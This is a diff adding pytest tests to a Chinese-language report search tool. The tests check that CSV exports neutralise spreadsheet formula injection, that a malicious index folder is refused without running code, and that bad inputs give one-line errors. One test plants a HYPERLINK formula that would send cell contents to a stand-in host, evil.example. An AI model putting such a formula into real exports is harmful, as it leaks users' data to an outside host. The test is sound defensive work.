@@ -136,3 +136,156 @@ def test_inspect_shows_the_year_its_signal_and_the_words_it_came_from(tmp_path):
     assert data["meta"]["evidence"] == {}
     assert data["detected"]["year"] == 2009
     assert data["detected"]["evidence"] == {"year": "一、2008年工作回顾"}
+
+
+# ---------------------------------------------------------------- hostile input
+
+
+def _one_line(proc) -> str:
+    """The single stderr line of a failed command (no traceback, no usage block)."""
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1, proc.stderr
+    assert "Traceback" not in proc.stderr
+    return lines[0]
+
+
+def test_exports_cannot_attack_a_spreadsheet_and_json_stays_exact(tmp_path):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")医院。'
+    (folder / "=cmd.md").write_text(
+        f"# 报告\n\n## @SUM(1+1)\n\n{formula}\n\n+86 医院电话。\n\n-5 医院床位。\n",
+        encoding="utf-8")
+    home = tmp_path / "home"
+    cli("index", folder, home=home)
+    queries = tmp_path / "queries.txt"
+    queries.write_text("医院\n-床位 医院\n", encoding="utf-8")
+    out = tmp_path / "hits.csv"
+    cli("search", "--queries-file", queries, "--csv", out, home=home)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for shown in ("'" + formula, "'=cmd.md", "'-床位 医院", "'+86 医院电话。", "'@SUM(1+1)"):
+        assert shown in cells
+    result = json.loads(cli("search", "医院", "--json", "--limit", "0", home=home).stdout)
+    assert {h["text"] for h in result["hits"]} == {formula, "+86 医院电话。", "-5 医院床位。"}
+    assert {(h["report"], h["section"]) for h in result["hits"]} == {("=cmd.md", "@SUM(1+1)")}
+
+
+def test_a_malicious_index_folder_is_refused_in_one_line(tmp_path, malicious_index):
+    marker = tmp_path / "ran"
+    malicious_index(tmp_path / "shared", marker)
+    proc = cli("search", "医院", "--index-dir", tmp_path / "shared", home=tmp_path / "home",
+               check=False)
+    assert proc.returncode == 1
+    assert "拒绝打开" in _one_line(proc) and "_MAIN_1.toc" in proc.stderr
+    assert not marker.exists()
+
+
+def test_home_set_to_a_file_is_one_clear_line(tmp_path, home):
+    blocker = tmp_path / "home-is-a-file"
+    blocker.write_text("x", encoding="utf-8")
+    proc = cli("search", "医院", home=blocker, check=False)
+    assert proc.returncode == 1
+    line = _one_line(proc)
+    assert "REPORTSEARCH_HOME" in line and "不是文件夹" in line and "别名" not in line
+    # With an index folder given, it searches (the alias table is the bundled one).
+    found = cli("search", "市二院", "--json", "--index-dir", home / "data" / "index",
+                home=blocker)
+    assert json.loads(found.stdout)["total"] > 0
+
+
+@pytest.mark.parametrize("year", ["99999", "-5", str(10**23), "1899"])
+def test_correct_refuses_a_year_no_report_can_have(home, year):
+    proc = cli("correct", "000_bd9af7df280a18e9.txt", "--year", year, home=home, check=False)
+    assert proc.returncode == 2
+    assert "年份" in _one_line(proc)
+    reports = json.loads(cli("reports", "--json", home=home).stdout)
+    assert {r["report"]: r["year"] for r in reports}["000_bd9af7df280a18e9.txt"] == 2025
+
+
+def test_a_bad_alias_table_is_a_warning_and_everything_still_works(tmp_path, seed_files):
+    home = tmp_path / "home"
+    (home / "data").mkdir(parents=True)
+    (home / "data" / "institutions.toml").write_bytes(
+        '[aliases]\n"某某医院" = "某院"\n"长治市第二人民医院" = ["二院本部"]\n'.encode("gbk"))
+    out = cli("index", seed_files[0], home=home)
+    assert "第 2 行" in out.stderr and "某某医院" in out.stderr and "Traceback" not in out.stderr
+    result = json.loads(cli("search", "二院本部", "--json", home=home).stdout)
+    assert result["expansions"] == {"二院本部": ["长治市第二人民医院", "市二院", "长治市二院",
+                                                 "长治二院"]}
+
+
+def test_index_lists_bad_manifest_rows_and_indexes_the_reports(tmp_path, seed_files):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    for path in seed_files[:2]:
+        (folder / path.name).write_bytes(path.read_bytes())
+    (folder / "metadata.csv").write_bytes(
+        f"file,institution,year,title\n{seed_files[0].name},某医院,99999,\n".encode("gbk"))
+    out = cli("index", folder, home=tmp_path / "home")
+    assert "新增 2 份" in out.stdout
+    assert "注意" in out.stdout and "第 2 行" in out.stdout and "99999" in out.stdout
+
+
+@pytest.mark.parametrize("word", ["unknown", "未知"])
+def test_search_can_select_the_reports_with_no_known_year(tmp_path, word):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    (folder / "undated.txt").write_text("没有年份的报告\n\n医院的工作总结。", encoding="utf-8")
+    (folder / "dated.txt").write_text("2024年工作报告\n\n医院的工作总结。", encoding="utf-8")
+    home = tmp_path / "home"
+    cli("index", folder, home=home)
+    result = json.loads(cli("search", "医院", "--year", word, "--json", home=home).stdout)
+    assert [h["report"] for h in result["hits"]] == ["undated.txt"]
+
+
+REFUSE_WRITES = """
+import errno, os, sys
+folder = os.environ["REFUSE_UNDER"]
+real_open = os.open
+
+def refusing(path, flags, *args, **kwargs):  # what a read-only folder does to non-root
+    if os.fspath(path).startswith(folder) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
+        raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
+    return real_open(path, flags, *args, **kwargs)
+
+os.open = refusing
+import builtins, io
+real_builtin_open = builtins.open
+
+def refusing_builtin(file, mode="r", *args, **kwargs):
+    if isinstance(file, (str, os.PathLike)) and os.fspath(file).startswith(folder) \\
+            and any(c in mode for c in "wax+"):
+        raise PermissionError(errno.EACCES, "Permission denied", os.fspath(file))
+    return real_builtin_open(file, mode, *args, **kwargs)
+
+builtins.open = io.open = refusing_builtin
+sys.path.insert(0, sys.argv[1])
+from main import main
+sys.exit(main(sys.argv[2:]))
+"""
+
+
+def test_a_read_only_index_is_one_line_and_the_details_are_logged(tmp_path, seed_files):
+    home = tmp_path / "home"
+    cli("index", seed_files[0], home=home)
+    index_dir = home / "data" / "index"
+    if os.geteuid() != 0:  # a real read-only folder
+        for path in [index_dir, *index_dir.rglob("*")]:
+            path.chmod(0o555 if path.is_dir() else 0o444)
+        args = [sys.executable, str(ROOT / "main.py")]
+    else:  # root writes anywhere: refuse the way the OS refuses everybody else
+        args = [sys.executable, "-c", REFUSE_WRITES, str(ROOT)]
+    env = {**os.environ, "REPORTSEARCH_HOME": str(home), "REFUSE_UNDER": str(index_dir)}
+    try:
+        proc = subprocess.run([*args, "index", str(seed_files[1])], capture_output=True,
+                              text=True, encoding="utf-8", env=env, timeout=120)
+    finally:
+        for path in [index_dir, *index_dir.rglob("*")]:
+            path.chmod(0o755 if path.is_dir() else 0o644)
+    assert proc.returncode == 1
+    assert "无法写入索引" in _one_line(proc)
+    log = (home / "logs" / "reportsearch.log").read_text(encoding="utf-8")
+    assert "could not record the indexed folders" in log and "Traceback" in log
